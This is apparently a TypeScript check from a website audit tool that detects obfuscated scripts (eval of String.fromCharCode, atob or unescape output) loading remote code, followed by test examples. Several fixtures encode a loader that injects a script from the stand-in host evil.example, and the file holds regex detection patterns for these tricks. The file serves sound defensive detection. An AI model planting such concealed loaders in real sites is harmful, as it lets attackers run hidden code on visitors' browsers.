import { defineCheck, type Example } from '../check.ts';

/** Code or an address in numbers, Base64 or escapes, where it is run or loaded. */
const CONCEALED =
  /(?:\b(?:eval|Function|document\.write(?:ln)?)\s*\(|\.src\s*=)\s*(?:(?:window\.)?(?:unescape|decodeURIComponent)\s*\(\s*["']((?:%[\da-f]{2}){10,})|(?:window\.)?atob\s*\(\s*["']([\w+/]{12,}=*)|String\.fromCharCode\s*\(\s*(\d{1,3}(?:\s*,\s*\d{1,3}){9,}))/gi;
/** What such code does if it is there to load more. Programs that hide email addresses do none of it. */
const LOADS = /<script|createElement|\.src\b|^(?:https?:)?\/\/|\blocation\b|\beval\s*\(|XMLHttp|\bfetch\b/i;
/** The longest excerpt, in characters. */
const LONGEST = 80;

/** Returns the beginning of a long text, or all of a short one. */
const excerptOf = (text: string) => (text.length > LONGEST ? `${text.slice(0, LONGEST - 1)}…` : text);

/** Returns what was concealed; empty if it cannot be read. */
function revealed(escapes?: string, base64?: string, numbers?: string): string {
  if (numbers) return String.fromCharCode(...numbers.split(',').map(Number));
  try {
    return base64 ? atob(base64) : unescape(escapes ?? '');
  } catch {
    return '';
  }
}

export default defineCheck({
  severity: 'warning',
  title: 'No script conceals what it does',
  why: 'Malware that is put into hacked sites hides its code and addresses like this, and then loads the rest from elsewhere.',
  docs: 'https://developers.google.com/search/docs/monitor-debug/security/malware',
  remedy:
    'If you do not know this script, treat the site as hacked: remove it, look for changed files and unknown accounts, restore a clean copy, update everything and change all passwords.',
  messages: {
    concealed: {
      fault: 'Script that conceals its code',
      says: 'A script writes in numbers or codes what it runs or loads: “{code}”.',
    },
  },

  *run({ page }) {
    const scripts = page.scripts.filter(({ text }) => text);
    if (scripts.length === 0) return 'not applicable';
    for (const at of scripts) {
      for (const match of (at.text ?? '').matchAll(CONCEALED)) {
        const [whole, escapes, base64, numbers] = match;
        const code = revealed(escapes, base64, numbers).trim();
        if (!LOADS.test(code)) continue;
        yield {
          message: 'concealed',
          values: { code: excerptOf(code) },
          at,
          // Where it is in the script. Text of a page that may be hostile: it is only ever shown as text.
          excerpt: `${match.index > 0 ? '…' : ''}${excerptOf(whole.replace(/\s+/g, ' '))}`,
        };
        break;
      }
    }
  },
});

const numbersOf = (code: string) => [...code].map((letter) => letter.charCodeAt(0)).join(',');
const escapesOf = (code: string) =>
  [...code].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('');
const script = (code: string) => ({ html: `<script>${code}</script>` });
const byNumbers = (code: string) => script(`eval(String.fromCharCode(${numbersOf(code)}))`);
/** What loads more, in as many letters as are needed to tell: ten. */
const SHORT = '//ab.co/xy';
const LONG = `//ab.co/${'x'.repeat(72)}`;
const LOADER = "var s=document.createElement('script');s.src='//evil.example/x.js'";

export const examples: Example[] = [
  script('console.log("kettles")'),
  {
    ...script(`eval(String.fromCharCode(${numbersOf(LOADER)}))`),
    finds: [
      {
        message: 'concealed',
        says: "A script writes in numbers or codes what it runs or loads: “var s=document.createElement('script');s.src='//evil.example/x.js'”.",
        remedy:
          'If you do not know this script, treat the site as hacked: remove it, look for changed files and unknown accounts, restore a clean copy, update everything and change all passwords.',
        at: 'head > script:nth-child(1)',
        severity: 'warning',
      },
    ],
  },
  {
    ...script(`s.src = String.fromCharCode(${numbersOf('https://evil.example/x.js')});`),
    finds: ['concealed'],
  },
  { ...script(`a.src=atob('${btoa('https://evil.example/x.js')}')`), finds: ['concealed'] },
  { ...script(`eval(window.atob("${btoa(LOADER)}"))`), finds: ['concealed'] },
  {
    ...script(`document.write(unescape('${escapesOf('<script src="//evil.example">')}'))`),
    finds: ['concealed'],
  },
  ...[
    'eval(unescape("CODE"))',
    "eval( decodeURIComponent ( 'CODE'))",
    'Function(window.unescape("CODE"))',
    'document.write(window.decodeURIComponent("CODE"))',
    'document.writeln(unescape("CODE"))',
    's.src=unescape("CODE")',
  ].map((code) => ({ ...script(code.replace('CODE', escapesOf(SHORT))), finds: ['concealed'] })),
  { ...script(`eval(unescape('${escapesOf(SHORT).toUpperCase()}'))`), finds: ['concealed'] },
  { ...script(`s.src=String.fromCharCode(${numbersOf(SHORT)})`), finds: ['concealed'] },
  { ...script(`s.src=atob('${btoa('//a.co/xy')}')`), finds: ['concealed'] },
  {
    name: 'too short to conceal more than a sign',
    ...script(
      `eval(unescape('${escapesOf('//a.co/xy')}'));s.src=String.fromCharCode(${numbersOf('//a.co/xy')});s.src=atob('${btoa('//a.co')}')`,
    ),
  },
  ...[
    'a("<script>b")',
    'd.createElement(s)',
    'image.src = "a"',
    '\n//a.example/',
    'http://a.example/',
    'https://a.example/',
    'location = "/a"',
    'x = eval ("a")',
    'new ActiveXObject("MSXML2.XMLHttp")',
    'addresses.map(fetch)',
  ].map((code) => ({ ...byNumbers(code), finds: ['concealed'] })),
  {
    name: 'as much as is shown whole',
    ...byNumbers(LONG),
    finds: [
      {
        message: 'concealed',
        says: `A script writes in numbers or codes what it runs or loads: “${LONG}”.`,
        at: 'head > script:nth-child(1)',
        severity: 'warning',
      },
    ],
  },
  {
    name: 'more than is shown',
    ...byNumbers(`${LONG}x`),
    finds: [
      {
        message: 'concealed',
        says: `A script writes in numbers or codes what it runs or loads: “${LONG.slice(0, 79)}…”.`,
        at: 'head > script:nth-child(1)',
        severity: 'warning',
      },
    ],
  },
  {
    name: 'one after what is harmless, told once for a script',
    html: `${byNumbers('console.log(1)').html}${script(`eval(String.fromCharCode(${numbersOf('console.log(1)')}));${`eval(String.fromCharCode(${numbersOf(SHORT)}));`.repeat(2)}`).html}${byNumbers(SHORT).html}`,
    finds: ['concealed', 'concealed'],
  },
  {
    name: 'an email address that is hidden from collectors',
    ...script(`eval(unescape('${escapesOf("document.write('<a href=mailto:tea@example.com>Tea</a>')")}'))`),
  },
  {
    name: 'data, and a tag that only protects its brackets',
    ...script(
      `const key = atob('${btoa('a long value of a setting')}'); document.write(unescape("%3Cscript src='/ga.js'%3E"))`,
    ),
  },
  { name: 'no Base64', ...script("eval(atob('aaaaaaaaaaaaa'))") },
  { html: '<script src="/a.js"></script>', verdict: 'not applicable' },
];
